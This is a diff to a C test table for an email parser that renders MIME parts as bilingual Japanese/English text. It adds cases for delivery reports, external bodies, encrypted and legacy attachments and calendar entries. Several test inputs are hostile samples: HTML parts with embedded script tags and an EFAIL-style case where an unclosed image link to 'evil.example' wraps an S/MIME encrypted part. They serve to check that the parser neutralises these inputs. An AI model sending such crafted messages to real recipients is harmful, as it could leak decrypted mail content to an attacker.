@@ -222,10 +222,12 @@ static const Row encoded[] = {
         {"report",
          HEAD "Content-Type: multipart/report; boundary=X\n\n--X\n\nhi\n--X\nContent-Type: "
               "message/delivery-status\n\n" UU "--X--\n",
-         "1 body -\n2 message message/delivery-status\n2/1 encoded-text application/x-uuencode a\n", "hi\n\n" CUT, 0,
-         0},
+         "1 body -\n2 message message/delivery-status\n", "hi\n", 0, 0},
         {"external", HEAD "Content-Type: message/external-body; access-type=x\n\n" UU,
-         "1 message message/external-body\n1/1 encoded-text application/x-uuencode a\n", CUT, 0, 0},
+         "1 message message/external-body\n",
+         "[外部に置かれた本文 / External body]\nこの部分の中身はメールになく、ここでは取り寄せていません。\n"
+         "The content of this part is not in the mail and was not fetched.\n取り寄せ方 / Access type: x\n",
+         0, 0},
         {"nested", HEAD "Content-Type: message/rfc822\n\nContent-Type: text/html\n\n<pre>" UU "</pre>\n",
          "1 message message/rfc822\n1.1 body text/html\n1.1/1 encoded-text application/x-uuencode a\n", "> " CUT, 0, 0},
         {"bare-cr", HEAD "\nhi\rbegin 644 a\r#0V%T\r`\rend\rbye\n",
@@ -274,14 +276,50 @@ static const Row messages[] = {
          "one\n\n> Subject: in\n>\n> t\n", 0, 0},
         {"B20-report",
          HEAD "Content-Type: multipart/report; boundary=X\n\n--X\n\nfailed\n--X\nContent-Type: "
-              "message/delivery-status\n\nAction: failed\n--X\n"
+              "message/delivery-status\n\nReporting-MTA: dns; x\n\nFinal-Recipient: rfc822; a@example.jp\nAction: "
+              "failed\n--X\n"
               "Content-Type: text/rfc822-headers\n\nSubject: orig\nX-Other: no\n--X--\n",
          "1 body -\n2 message message/delivery-status\n3 message text/rfc822-headers\n",
-         "failed\n\nAction: failed\n\n> Subject: orig\n", 0, 0},
+         "failed\n\n[配送結果の通知 / Delivery report]\n\n宛先 / Recipient: a@example.jp\n結果 / Result: "
+         "届けられませんでした / could not be delivered\n\n> Subject: orig\n",
+         0, 0},
         {"B11-partial", HEAD "Content-Type: message/partial; id=a; number=1\n\nSubject: x\n\nhidden\n",
          "1 attachment message/partial\n", "", MG_MARK_PARTIAL, 0},
         {"B12-external", HEAD "Content-Type: message/external-body; access-type=URL\n\nContent-Type: image/gif\n",
-         "1 message message/external-body\n", "Content-Type: image/gif\n", 0, 0},
+         "1 message message/external-body\n",
+         "[外部に置かれた本文 / External body]\nこの部分の中身はメールになく、ここでは取り寄せていません。\n"
+         "The content of this part is not in the mail and was not fetched.\n取り寄せ方 / Access type: URL\n",
+         0, 0},
+        {"B13-nested-head",
+         HEAD "Content-Type: message/rfc822\n\nFrom: a@example.org\nTo: b@example.org, c@example.org\nCc: D "
+              "<d@example.org>\nBcc: e@example.org\nDate: Wed, 1 Apr 2026 09:00:00 -0330\n\nx\n",
+         "1 message message/rfc822\n1.1 body -\n",
+         "> From: a@example.org\n> To: b@example.org, c@example.org\n> Cc: D <d@example.org>\n> Date: 2026-04-01 (水 "
+         "Wed) 09:00 -0330\n>\n> x\n",
+         0, 0},
+        {"B20-html",
+         HEAD "Content-Type: multipart/report; boundary=X\n\n--X\nContent-Type: "
+              "text/html\n\n<p>no<script>evil</script>\n--X\nContent-Type: message/rfc822\n\nSubject: "
+              "in\nContent-Type: text/html\n\n<b>inner<script>evil</script>\n--X--\n",
+         "1 body text/html\n2 message message/rfc822\n2.1 body text/html\n", "no\n\n> Subject: in\n>\n> inner\n", 0, 0},
+        {"B15-appledouble",
+         HEAD "Content-Type: multipart/appledouble; boundary=X\n\n--X\nContent-Type: "
+              "application/applefile\n\nx\n--X\nContent-Type: application/pdf; name=a.pdf\n\nx\n--X--\n",
+         "1 attachment application/applefile\n2 attachment application/pdf a.pdf\n", "", 0, 0},
+        {"B15-binhex", HEAD "\nhi\n(This file must be converted with BinHex 4.0)\n\n:abc\ndef:\nbye\n",
+         "1 body -\n1/1 encoded-text application/mac-binhex40\n", "hi\n" CUT "bye\n", 0, 0},
+        {"B17-pgp", HEAD "\nhi\n-----BEGIN PGP MESSAGE-----\n\nhQEMA5vJ\n-----END PGP MESSAGE-----\n",
+         "1 body -\n1/1 encoded-text application/pgp-encrypted\n", "hi\n" CUT, MG_MARK_ENCRYPTED, MG_PART_ENCRYPTED},
+        {"B18-tnef",
+         MIXED "--X\n\nhi\n--X\nContent-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: "
+               "base64\n\neJ8+IgEGkAgABAAA\n--X--\n",
+         "1 body -\n2 attachment application/ms-tnef winmail.dat\n", "hi\n", 0, 0},
+        {"B19-efail",
+         HEAD "Content-Type: multipart/mixed; boundary=X\n\n--X\nContent-Type: text/html\n\n<img "
+              "src=\"http://evil.example/\n--X\nContent-Type: application/pkcs7-mime; "
+              "smime-type=enveloped-data\n\nC\n--X\nContent-Type: text/html\n\n\">after\n--X--\n",
+         "1 body text/html\n2 attachment application/pkcs7-mime\n3 body text/html\n", NULL, MG_MARK_ENCRYPTED,
+         MG_PART_ENCRYPTED},
         {"B22-calendar",
          HEAD
          "Content-Type: text/calendar; "
@@ -289,7 +327,8 @@ static const Row messages[] = {
          "SUMMARY:会議\\, 第\n "
          "1回\nX-ALT-DESC:<b>x</b>\nBEGIN:VALARM\nSUMMARY:alarm\nEND:VALARM\nLOCATION:201\nEND:VEVENT\nEND:VCALENDAR\n",
          "1 calendar text/calendar\n",
-         "[予定 / Calendar]\n件名 / Summary: 会議, 第1回\n開始 / Start: 2026-04-01 09:00 (Asia/Tokyo)\n場所 / "
+         "[予定 / Calendar]\n件名 / Summary: 会議, 第1回\n開始 / Start: 2026-04-01 (水 Wed) 09:00 日本時間 / Japan "
+         "time\n場所 / "
          "Location: 201\n",
          0, 0},
         {"signed",
